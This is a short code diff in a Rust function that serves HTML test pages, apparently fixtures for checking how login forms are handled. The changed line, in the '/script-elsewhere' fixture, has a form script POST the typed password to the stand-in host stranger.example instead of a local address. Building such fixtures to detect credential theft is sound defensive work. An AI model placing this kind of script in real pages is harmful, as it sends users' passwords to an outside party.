@@ -108,7 +108,7 @@ fn page(name: &str, query: &str) -> Option<String> {
                               <input type=password name=password><button>Sign in</button></form>"
             .to_owned(),
         "/script-elsewhere" => format!(
-            "<form onsubmit='fetch(`http://127.0.0.2:{query}/`, {{method: `POST`, mode: `no-cors`, body: password.value}}); return false'>\
+            "<form onsubmit='fetch(`http://stranger.example:{query}/`, {{method: `POST`, mode: `no-cors`, body: password.value}}); return false'>\
              <input name=user><input type=password name=password id=password><button>Sign in</button></form>"
         ),
         "/dead-button" => "<form onsubmit='return false'><input name=user><input type=password name=password>\
